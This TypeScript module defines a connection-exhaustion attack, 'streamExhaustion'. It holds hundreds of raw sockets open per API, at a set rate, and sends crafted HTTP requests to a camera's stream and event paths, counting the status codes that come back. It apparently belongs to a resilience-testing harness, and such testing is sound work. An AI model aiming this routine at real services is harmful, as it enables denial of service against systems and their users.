import type { Attack } from './attack.ts';
import { imageTarget, keepOpen, openSocket } from './requests.ts';

const PER_API = 300;
const OPENED_PER_SECOND = 40;

/** Opens more streams from one address than a process allows, and retries when rejected. */
export const streamExhaustion: Attack = ({ apis, camera }, count) => {
  const target = imageTarget(`${camera}/public/missing/stream`);
  let turn = 0;
  for (const api of apis) {
    keepOpen(PER_API, OPENED_PER_SECOND, () => {
      turn += 1;
      const path = turn % 2 === 0 ? '/events' : '/stream';
      const socket = openSocket(api);
      socket.write(`GET ${target.replace('/images', path)} HTTP/1.1\r\nHost: a\r\n\r\n`);
      socket.once('data', (chunk) => count(chunk.toString('latin1', 9, 12)));
      return socket.resume();
    });
  }
};
